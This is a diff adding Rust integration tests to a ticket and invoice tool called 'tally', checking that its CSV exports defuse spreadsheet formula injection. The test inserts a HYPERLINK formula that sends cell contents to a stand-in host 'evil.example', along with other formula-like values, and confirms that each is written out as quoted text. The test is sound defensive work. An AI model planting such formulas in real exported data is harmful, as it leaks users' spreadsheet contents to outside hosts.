@@ -97,6 +97,7 @@ async fn export_writes_every_purchase_and_verify_checks_a_draw_through_the_api()
         listener,
         router(app.store.clone()),
         std::future::pending(),
+        tally::api::local_server::DEFAULT_HEADER_READ_TIMEOUT,
     ));
     let verified = tokio::task::spawn_blocking(move || {
         Command::new(env!("CARGO_BIN_EXE_tally"))
@@ -254,4 +255,111 @@ async fn table_commands_read_make_runs_dynamodb_local_and_tell_a_finding_from_a_
         assert_eq!(stderr.trim_end().lines().count(), 1, "{stderr}");
     }
     assert!(stderr_of(&unreachable).contains(&format!("127.0.0.1:{closed_port}")));
+}
+
+/// Runs `tally` on the test's table and reads the CSV it wrote to `file`.
+async fn export_rows(app: &crate::helpers::TestApp, args: &[&str], file: &str) -> Vec<Vec<String>> {
+    let path = std::env::temp_dir().join(format!("{}-{file}", app.store.table()));
+    let mut command = Command::new(env!("CARGO_BIN_EXE_tally"));
+    command
+        .args(args)
+        .arg(&path)
+        .env("TABLE_NAME", app.store.table())
+        .env("DYNAMODB_ENDPOINT", endpoint());
+    let output = tokio::task::spawn_blocking(move || command.output().unwrap())
+        .await
+        .unwrap();
+    assert!(
+        output.status.success(),
+        "{}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+    let mut reader = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_path(&path)
+        .unwrap();
+    let rows = reader
+        .records()
+        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
+        .collect();
+    std::fs::remove_file(&path).ok();
+    rows
+}
+
+#[tokio::test]
+async fn exports_write_cells_a_spreadsheet_would_evaluate_as_text() {
+    let app = spawn_app().await;
+    let formula = r#"=HYPERLINK("http://evil.example/?x="&A1,"open")"#;
+    let shown = format!("'{formula}");
+    // A draw: a payer and a void reason that spreadsheets read as formulas.
+    app.post("/draws", &json!({"draw_id": "sheet", "total_tickets": 10}))
+        .await;
+    let bought = app
+        .post(
+            "/draws/sheet/purchases",
+            &json!({"payment_id": "p1", "quantity": 1, "payer_id": "@SUM(1+1)"}),
+        )
+        .await;
+    assert_eq!(bought.status, StatusCode::CREATED, "{}", bought.body);
+    let voided = app
+        .post(
+            "/draws/sheet/purchases/p1/void",
+            &json!({"reason": formula}),
+        )
+        .await;
+    assert!(voided.status.is_success(), "{}", voided.body);
+    let rows = export_rows(&app, &["export-draw", "sheet", "--output"], "draw.csv").await;
+    assert_eq!(rows.len(), 2);
+    assert_eq!(
+        (rows[1][1].as_str(), rows[1][6].as_str()),
+        ("'@SUM(1+1)", shown.as_str())
+    );
+
+    // A series: a reference, a void reason and a move's reason.
+    app.put(
+        "/series/SHEET",
+        &json!({"format": "S{seq:3}", "reset": "never", "gapless": false}),
+    )
+    .await;
+    let order = app
+        .post(
+            "/orders",
+            &json!({"series": "SHEET", "source": "-shop", "external_ref": "-2-3"}),
+        )
+        .await;
+    assert_eq!(order.status, StatusCode::CREATED, "{}", order.body);
+    let voided = app
+        .post(
+            "/series/SHEET/orders/S001/void",
+            &json!({"reason": formula}),
+        )
+        .await;
+    assert!(voided.status.is_success(), "{}", voided.body);
+    let moved = app
+        .patch("/series/SHEET", &json!({"next": 5, "reason": "+1 skipped"}))
+        .await;
+    assert!(moved.status.is_success(), "{}", moved.body);
+    let rows = export_rows(
+        &app,
+        &["export", "--series", "SHEET", "--period", "all", "--out"],
+        "series.csv",
+    )
+    .await;
+    assert_eq!(rows.len(), 3, "{rows:?}");
+    assert_eq!(
+        (
+            rows[1][4].as_str(),
+            rows[1][5].as_str(),
+            rows[1][7].as_str()
+        ),
+        ("'-shop", "'-2-3", shown.as_str())
+    );
+    assert_eq!(rows[2][7], "'+1 skipped");
+    // No cell of either file starts as a formula would.
+    for cell in rows.iter().flatten() {
+        assert!(
+            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "{cell}"
+        );
+    }
 }
